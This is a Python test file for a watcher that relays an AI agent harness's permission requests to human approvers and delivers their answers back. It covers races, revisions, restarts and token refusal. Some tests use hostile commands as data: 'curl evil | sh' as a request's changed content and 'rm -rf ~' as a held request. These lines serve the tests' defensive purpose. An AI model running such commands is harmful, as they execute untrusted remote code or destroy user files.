"""The harness watcher in-process: a real inbox (SQLite) and the tests' own seed-002 harness over HTTP."""

from __future__ import annotations

import asyncio
import json
import time
from collections.abc import AsyncIterator
from pathlib import Path
from typing import Any

import aiohttp
import pytest
import structlog
import structlog.testing

from bot.config import HarnessConfig
from bot.harness import Harnesses
from bot.harness.client import Client, HarnessDown, TokenRefused, discover, token_taken
from bot.harness.mapping import CHANGED, ELSEWHERE, to_submission
from bot.harness.watcher import OK, TOKEN_REFUSED, UNREACHABLE, Watcher
from bot.inbox import ledger
from bot.inbox import links as L
from bot.inbox.db import DatabaseError, create
from bot.inbox.db.fence import Deposed
from bot.inbox.links import Links
from bot.inbox.record import Settlement
from bot.inbox.store import Inbox
from bot.inbox.submission import SubmissionError
from tests.support.harness_server import FakeHarness


@pytest.fixture
async def fake() -> AsyncIterator[FakeHarness]:
    h = FakeHarness()
    await h.start()
    yield h
    await h.stop()


@pytest.fixture
async def client() -> AsyncIterator[Client]:
    async with aiohttp.ClientSession() as s:
        yield Client(s)


async def _inbox(url: str) -> Inbox:
    ib = Inbox(create(url))
    await ib.open()
    return ib


UNLINKED = "unlinked"


async def _delivery(ib: Inbox, request_id: str) -> str | None:
    """The delivery state of ``request_id``'s harness link (UNLINKED: it has none)."""
    row = await ib.database.fetchrow("SELECT delivery FROM harness_links WHERE request_id=$1", request_id)
    return UNLINKED if row is None else row[0]


def _watcher(ib: Inbox, fake: FakeHarness, **kw: Any) -> Watcher:
    cfg = HarnessConfig(name="laptop", url=fake.url, poll=0.05)
    return Watcher(cfg, ib, now=time.time, timeout=600, env={"AGENTPROTO_DAEMON_TOKEN": fake.token}, **kw)


async def _answer(ib: Inbox, rid: str, option: str, feedback: str | None = None) -> None:
    assert await ib.settle(rid, Settlement(option_id=option, by="@alice:hs", via="matrix", feedback=feedback,
                                           now=time.time()))


async def test_held_requests_are_relayed_and_answered_once(inbox: Inbox, fake: FakeHarness, client: Client) -> None:
    p1, p2 = fake.hold(), fake.hold(session_id="ses_def456", tool="Write", raw_input={"file_path": "a.py"})
    w = _watcher(inbox, fake)
    await w.step(client)
    pending = await inbox.pending()
    assert [r.session_id for r in pending] == ["laptop:ses_abc123", "laptop:ses_def456"]
    assert pending[0].label == "laptop:claude-code:fix-the-flaky-tests" and pending[1].tool_name == "Write"
    assert pending[0].params == fake.record(p1) | {"age": pending[0].params["age"]}
    await _answer(inbox, pending[0].id, "allow_always", "only in apps/hub")
    for _ in range(3):
        await w.step(client)
    assert fake.decisions == [{"id": p1, "optionId": "allow_always", "feedback": "only in apps/hub", "by": "api"}]
    assert set(fake.held) == {p2} and w.health()["state"] == OK
    assert [r.session_id for r in await inbox.pending()] == ["laptop:ses_def456"]
    assert await _delivery(inbox, pending[0].id) == L.DELIVERED


async def test_resolved_at_the_harness_is_withdrawn(sqlite_inbox: Inbox, fake: FakeHarness, client: Client) -> None:
    pid = fake.hold()
    w = _watcher(sqlite_inbox, fake)
    await w.step(client)
    (rec,) = await sqlite_inbox.pending()
    fake.resolve_here(pid)
    await w.step(client)
    got = await sqlite_inbox.get(rec.id)
    assert got and got.state == "cancelled" and got.outcome
    assert (got.outcome.answered_by, got.outcome.via, got.outcome.feedback) == ("harness:laptop", "cancel", ELSEWHERE)
    await w.step(client)
    assert fake.posted == [] and len(fake.decisions) == 1  # nothing sent for it (the token check only reads)


async def test_an_answer_the_harness_no_longer_takes_is_shown_answered_elsewhere(
    sqlite_inbox: Inbox, fake: FakeHarness, client: Client
) -> None:
    p1, p2 = fake.hold(), fake.hold()
    amended: list[tuple[str, str]] = []
    sqlite_inbox.listen(lambda kind, rec: amended.append((kind, rec.state)) if kind == "amended" else None)
    w = _watcher(sqlite_inbox, fake)
    await w.step(client)
    r1, r2 = await sqlite_inbox.pending()
    # r2 (sent first): the harness lets go between the bot's last read and its POST -> 404.
    await _answer(sqlite_inbox, r2.id, "reject_once")
    fake.after_read = lambda: fake.held.pop(p2)
    # r1: answered in the room while the harness's CLI answered it too (seen gone before sending).
    await _answer(sqlite_inbox, r1.id, "allow_once")
    fake.resolve_here(p1)
    await w._deliver(client, discover(w.cfg, w.env))
    await w.step(client)
    for rid in (r1.id, r2.id):
        got = await sqlite_inbox.get(rid)
        assert got and got.state == "cancelled" and got.outcome and not got.prompt_edited
        assert got.outcome.feedback and got.outcome.feedback.startswith(ELSEWHERE)
        assert "@alice:hs's answer" in got.outcome.feedback
    assert [d["by"] for d in fake.decisions] == ["cli"] and fake.refused == [404] and fake.posted == [p2]
    assert amended == [("amended", "cancelled")] * 2  # events, webhooks, metrics and the outbox hear it
    entries = [json.loads(x) async for x in ledger.lines(sqlite_inbox.database)]  # each answer, then its amendment
    assert len(entries) == 4 and sorted(e["request_id"] for e in entries[:2]) == sorted([r1.id, r2.id])
    assert sorted((e["request_id"], e["via"], e["answered_by"]) for e in entries[2:]) == sorted(
        [(r1.id, "cancel", []), (r2.id, "cancel", [])])


async def test_an_edit_on_its_way_when_the_answer_was_amended_leaves_the_amendment_to_edit(
    sqlite_inbox: Inbox, fake: FakeHarness, client: Client
) -> None:
    """The outbox edits the prompt from the settled record (alice allowed it); the harness's CLI answers too and
    the answer is amended while that edit is on its way. Marking the old edit done must not mark the amendment
    edited: the room would go on saying "allowed by alice" of a request the agent was never allowed."""
    pid = fake.hold()
    w = _watcher(sqlite_inbox, fake)
    await w.step(client)
    (rec,) = await sqlite_inbox.pending()
    await sqlite_inbox.set_prompt_event(rec.id, "$prompt", time.time())
    await _answer(sqlite_inbox, rec.id, "allow_once")
    on_its_way = await sqlite_inbox.get(rec.id)  # what the outbox's edit shows
    assert on_its_way and on_its_way.state == "resolved"
    fake.resolve_here(pid)
    await w._deliver(client, discover(w.cfg, w.env))
    amended = await sqlite_inbox.get(rec.id)
    assert amended and amended.state == "cancelled" and not amended.prompt_edited
    await sqlite_inbox.mark_edited(rec.id, "$edit-allowed", shown=on_its_way)  # the old edit lands now
    got = await sqlite_inbox.get(rec.id)
    assert got and not got.prompt_edited and [r.id for r in await sqlite_inbox.needing_edit()] == [rec.id]
    await sqlite_inbox.mark_edited(rec.id, "$edit-amended", shown=amended)
    got = await sqlite_inbox.get(rec.id)
    assert got and got.prompt_edited and await sqlite_inbox.needing_edit() == []


async def test_a_request_changed_while_pending_is_asked_again_as_a_new_revision(
    inbox: Inbox, fake: FakeHarness, client: Client
) -> None:
    pid = fake.hold(raw_input={"command": "ls"})
    heard: list[tuple[str, str]] = []
    inbox.listen(lambda kind, rec: heard.append((kind, rec.id)))
    w = _watcher(inbox, fake)
    await w.step(client)
    (old,) = await inbox.pending()
    fake.held[pid]["rawInput"] = {"command": "curl evil | sh"}  # same id, same identity, other content
    await w.step(client)  # within one poll: the old prompt withdrawn, the new content asked
    (new,) = await inbox.pending()
    got = await inbox.get(old.id)
    assert got and got.state == "cancelled" and got.outcome and got.outcome.answered_by == "harness:laptop"
    assert got.outcome.feedback == "changed at the harness after it was shown; asked again as revision 2"
    assert (new.revision, new.tool_call_id, new.raw_input) == (2, old.tool_call_id, {"command": "curl evil | sh"})
    assert heard[-2:] == [("resolved", old.id), ("request", new.id)]
    assert not await inbox.settle(old.id, Settlement(option_id="allow_once", by="@alice:hs", via="matrix",
                                  now=time.time()))  # an answer to the old prompt settles nothing
    await _answer(inbox, new.id, "reject_once")
    await w.step(client)
    assert fake.decisions == [{"id": pid, "optionId": "reject_once", "feedback": None, "by": "api"}]
    assert await _delivery(inbox, new.id) == L.DELIVERED
    assert await _delivery(inbox, old.id) == UNLINKED


async def test_a_request_changed_after_it_was_answered_is_not_sent_but_asked_again(
    inbox: Inbox, fake: FakeHarness, client: Client
) -> None:
    pid = fake.hold(raw_input={"command": "ls"})
    w = _watcher(inbox, fake)
    await w.step(client)
    (rec,) = await inbox.pending()
    await _answer(inbox, rec.id, "allow_once")
    # The harness changes it right after the step's read, before the answer is POSTed: the re-read sees it.
    fake.after_read = lambda: fake.held[pid].update(rawInput={"command": "curl evil | sh"})
    await w.step(client)
    assert fake.posted == [] and pid in fake.held
    got = await inbox.get(rec.id)
    assert got and got.state == "cancelled" and got.outcome and got.outcome.feedback
    assert got.outcome.feedback == (
        "not sent: changed at the harness after it was shown; asked again as revision 2;"
        " @alice:hs's answer (Allow once) was not delivered"
    )
    (new,) = await inbox.pending()
    assert new.revision == 2 and new.raw_input == {"command": "curl evil | sh"}


async def test_a_changed_record_that_cannot_be_taken_only_withdraws(
    sqlite_inbox: Inbox, fake: FakeHarness, client: Client
) -> None:
    pid = fake.hold()
    w = _watcher(sqlite_inbox, fake)
    await w.step(client)
    (rec,) = await sqlite_inbox.pending()
    fake.held[pid]["options"] = "none"  # not a list: cannot be asked
    await w.step(client)
    await w.step(client)
    got = await sqlite_inbox.get(rec.id)
    assert await sqlite_inbox.pending() == [] and got and got.outcome and got.outcome.feedback == CHANGED
    p2 = fake.hold()
    await w.step(client)
    (rec2,) = await sqlite_inbox.pending()
    await _answer(sqlite_inbox, rec2.id, "allow_once")
    fake.after_read = lambda: fake.held[p2].update(options="none")  # changed right before the POST
    await w.step(client)
    got = await sqlite_inbox.get(rec2.id)
    assert got and got.state == "cancelled" and got.outcome and got.outcome.feedback
    assert got.outcome.feedback.startswith(CHANGED) and "@alice:hs's answer (Allow once)" in got.outcome.feedback
    assert fake.posted == [] and await sqlite_inbox.pending() == []


async def test_harness_down_then_back_loses_nothing(sqlite_inbox: Inbox, fake: FakeHarness, client: Client) -> None:
    pid = fake.hold()
    w = _watcher(sqlite_inbox, fake)
    await w.step(client)
    (rec,) = await sqlite_inbox.pending()
    await fake.stop()
    await _answer(sqlite_inbox, rec.id, "allow_once", "go")
    stop = asyncio.Event()
    task = asyncio.create_task(w.run(client, stop))
    await _until(lambda: w.state == UNREACHABLE)
    assert w.health()["ok"] is False and "GET /permissions" in (w.health()["error"] or "")
    await fake.start()  # same port, still holding the request
    w.wake.set()
    await _until(lambda: bool(fake.decisions), timeout=10)
    await asyncio.sleep(0.3)
    stop.set()
    await task
    assert fake.decisions == [{"id": pid, "optionId": "allow_once", "feedback": "go", "by": "api"}]
    assert w.state == OK


async def test_token_refused_is_said_and_recovers(sqlite_inbox: Inbox, fake: FakeHarness, client: Client) -> None:
    pid = fake.hold()
    w = _watcher(sqlite_inbox, fake)
    right = fake.token
    fake.token = "rotated"  # the harness restarted with a new token the bot does not have
    with pytest.raises(TokenRefused):
        await w.step(client)  # the list is read-only; the token check says no before any answer
    assert fake.posted == []  # checked with a read, never a decision
    assert len(await sqlite_inbox.pending()) == 1
    stop = asyncio.Event()
    task = asyncio.create_task(w.run(client, stop))
    await _until(lambda: w.state == TOKEN_REFUSED)
    (rec,) = await sqlite_inbox.pending()
    await _answer(sqlite_inbox, rec.id, "reject_once")
    await asyncio.sleep(0.3)
    assert fake.decisions == [] and fake.posted == []  # nothing sent while the token is refused
    fake.token = right
    w.wake.set()
    await _until(lambda: bool(fake.decisions), timeout=10)
    stop.set()
    await task
    assert fake.decisions == [{"id": pid, "optionId": "reject_once", "feedback": None, "by": "api"}]


async def test_bot_restart_doubles_nothing(engine_url: str, fake: FakeHarness, client: Client) -> None:
    ib = await _inbox(engine_url)
    p1, p2 = fake.hold(), fake.hold()
    await _watcher(ib, fake).step(client)
    r1, r2 = await ib.pending()
    await _answer(ib, r1.id, "allow_once")
    await _answer(ib, r2.id, "allow_once")
    # r1's answer reached the harness but the bot died before noting it; r2's was never sent.
    await Links(ib).set_delivery(r1.id, L.SENDING, time.time(), attempt=True)
    del fake.held[p1]
    fake.decisions.append({"id": p1, "optionId": "allow_once", "feedback": None, "by": "api"})
    await ib.close()
    ib = await _inbox(engine_url)
    w = _watcher(ib, fake)
    await w.step(client)
    await w.step(client)
    assert await ib.database.fetchval("SELECT COUNT(*) FROM requests") == 2
    assert [d["id"] for d in fake.decisions] == [p1, p2]
    got = await ib.get(r1.id)
    assert got and got.state == "resolved"  # assumed delivered, not "answered elsewhere"
    await ib.close()


async def test_a_restarted_harness_reusing_an_id_is_a_new_request(sqlite_inbox: Inbox, client: Client) -> None:
    a = FakeHarness()
    await a.start()
    a.hold()
    w = _watcher(sqlite_inbox, a)
    await w.step(client)
    await a.stop()
    await asyncio.sleep(0.01)
    b = FakeHarness(token=a.token, port=a.port)  # restarted: its memory and id counter are gone
    b.hold(tool="Write", raw_input={"file_path": "x"})
    await b.start()
    await w.step(client)
    await b.stop()
    (new,) = await sqlite_inbox.pending()
    assert new.tool_name == "Write" and new.session_id == "laptop:ses_abc123" and new.request_seq == 2
    old = await sqlite_inbox.get("laptop:ses_abc123:1")
    assert old and old.state == "cancelled" and old.outcome and old.outcome.feedback == ELSEWHERE


async def test_a_squatted_key_is_refused_and_the_namespace_reserved(
    inbox: Inbox, fake: FakeHarness, client: Client
) -> None:
    pid = fake.hold(raw_input={"command": "rm -rf ~"})
    # An agent with an API token guesses the key and submits a harmless-looking request under it.
    real = to_submission("laptop", fake.record(pid)).submission
    body = {"sessionId": real.session_id, "key": real.key, "toolCall": {"toolCallId": "c", "title": "ls"},
            "options": real.options}
    hs = Harnesses([HarnessConfig(name="laptop", url=fake.url)], inbox, now=time.time, timeout=600)
    with pytest.raises(SubmissionError, match="sessionId: laptop: is reserved"):
        hs.refuse_reserved(body["sessionId"])  # what the daemon's submit does for the HTTP API
    from bot.inbox.submission import parse_submission

    await inbox.submit(parse_submission(body), time.time(), 600)  # had it slipped in anyway
    w = _watcher(inbox, fake)
    await w.step(client)
    (only,) = await inbox.pending()
    assert only.title == "ls" and await _delivery(inbox, only.id) == UNLINKED  # never linked to the harness


async def test_client_errors(client: Client) -> None:
    ep = discover(HarnessConfig(name="a", url="http://127.0.0.1:9"), {})
    with pytest.raises(HarnessDown):
        await client.held(ep)
    with pytest.raises(TokenRefused, match="no token"):
        await client.decide(ep, "perm_1", {"decision": "deny"})
    assert [token_taken(s) for s in (200, 404, 405, 400, 302, 429)] == [True, True, True, False, False, False]


async def test_a_stopped_harness_is_unreachable_and_an_odd_token_check_blocks_nothing(
    tmp_path: Path, sqlite_inbox: Inbox, fake: FakeHarness, client: Client
) -> None:
    cfg = HarnessConfig(name="laptop", workspace=str(tmp_path / "ws"), poll=0.05)
    w = Watcher(cfg, sqlite_inbox, now=time.time, timeout=600, env={})
    stop = asyncio.Event()
    task = asyncio.create_task(w.run(client, stop))
    await _until(lambda: w.state == UNREACHABLE)  # no runtime.json: the harness is not running
    assert "the harness is not running" in (w.health()["error"] or "")
    fake.token_check_status = 400  # a harness that answers the token check oddly still gets its answers
    fake.write_runtime(tmp_path / "ws")
    pid = fake.hold()
    w.wake.set()
    await _until(lambda: w.state == OK)
    (rec,) = await sqlite_inbox.pending()
    await _answer(sqlite_inbox, rec.id, "allow_once")
    w.wake.set()
    await _until(lambda: bool(fake.decisions))
    stop.set()
    await task
    assert fake.decisions[0]["id"] == pid and "permission-bot.token-check.9f3c1e" not in fake.posted


async def _until(cond: Any, timeout: float = 5.0) -> None:
    deadline = time.monotonic() + timeout
    while not cond():
        assert time.monotonic() < deadline, "condition not met in time"
        await asyncio.sleep(0.02)


async def test_doctor_lines(fake: FakeHarness, tmp_path: Path) -> None:
    from bot.harness.check import _probe

    env = {"AGENTPROTO_DAEMON_TOKEN": fake.token}
    fake.hold()
    ok, what, _ = await _probe(HarnessConfig(name="laptop", url=fake.url), env)
    assert ok and what == f"harness laptop: {fake.url} holds 1 request(s), token not refused"
    ok, what, todo = await _probe(HarnessConfig(name="laptop", url=fake.url), {"AGENTPROTO_DAEMON_TOKEN": "nope"})
    assert not ok and what.startswith("harness laptop: token refused") and "nope" not in what + todo
    assert "AGENTPROTO_DAEMON_TOKEN" in todo
    ok, what, _ = await _probe(HarnessConfig(name="laptop", url="http://127.0.0.1:9"), env)
    assert not ok and what.startswith("harness laptop: unreachable at http://127.0.0.1:9")
    ok, what, _ = await _probe(HarnessConfig(name="laptop", workspace=str(tmp_path)), env)
    assert not ok and what.startswith("harness laptop: unreachable (no ") and "not running" in what
    assert fake.posted == []


async def test_an_event_from_the_harness_polls_it_at_once(sqlite_inbox: Inbox, fake: FakeHarness) -> None:
    cfg = HarnessConfig(name="laptop", url=fake.url, poll=60)
    hs = Harnesses([cfg], sqlite_inbox, now=time.time, timeout=600, env={"AGENTPROTO_DAEMON_TOKEN": fake.token})
    stop = asyncio.Event()
    tasks = hs.tasks(stop)
    await _until(lambda: hs.health()[0]["state"] == OK)
    fake.hold()
    assert hs.wake("laptop") and not hs.wake("other")  # session:permission-request arrived: poll now
    start = time.monotonic()
    while not await sqlite_inbox.pending():
        assert time.monotonic() - start < 2, "not taken at once"
        await asyncio.sleep(0.02)
    stop.set()
    await asyncio.gather(*tasks)
    await hs.close()


async def test_a_watched_harness_posts_to_its_room_and_a_new_revision_stays_there(
    sqlite_inbox: Inbox, fake: FakeHarness, client: Client
) -> None:
    """[[rooms]] harnesses = ["laptop"]: its requests are that room's, whatever the harness's record says."""
    pid = fake.hold(raw_input={"command": "ls"})
    fake.held[pid]["room"] = "default"  # the harness's own words choose nothing
    w = _watcher(sqlite_inbox, fake, room="infra")
    await w.step(client)
    (first,) = await sqlite_inbox.pending(room="infra")
    assert first.room == "infra" and await sqlite_inbox.pending(room="default") == []
    fake.held[pid]["rawInput"] = {"command": "ls -la"}
    await w.step(client)
    (again,) = await sqlite_inbox.pending()
    assert again.revision == 2 and again.room == "infra"


async def test_the_state_away_is_one_warning_and_a_deposed_term_ends_the_loop(
    sqlite_inbox: Inbox, fake: FakeHarness, client: Client
) -> None:
    """The database away for a few steps: one warning with the reason and one line when back, no traceback and
    the harness not called unreachable; the leader's term over (Deposed): the loop ends (the supervisor demotes)."""
    w = _watcher(sqlite_inbox, fake)
    real, fails = w.step, [DatabaseError("state.database: lost the connection"), DatabaseError("still away")]

    async def step(c: Client) -> None:
        if fails:
            raise fails.pop(0)
        await real(c)

    w.step = step  # type: ignore[method-assign]
    stop = asyncio.Event()
    with structlog.testing.capture_logs() as said:
        task = asyncio.create_task(w.run(client, stop))
        await _until(lambda: any(e["event"] == "harness_state_back" for e in said), timeout=10)
        stop.set()
        await task
    events = [(e["log_level"], e["event"]) for e in said]
    assert events.count(("warning", "harness_state_unavailable")) == 1 and "harness_step_failed" not in str(events)
    assert w.state == OK
    fails.append(Deposed("term 1 is over (now 2)"))
    with pytest.raises(Deposed):
        await asyncio.wait_for(w.run(client, asyncio.Event()), 5)
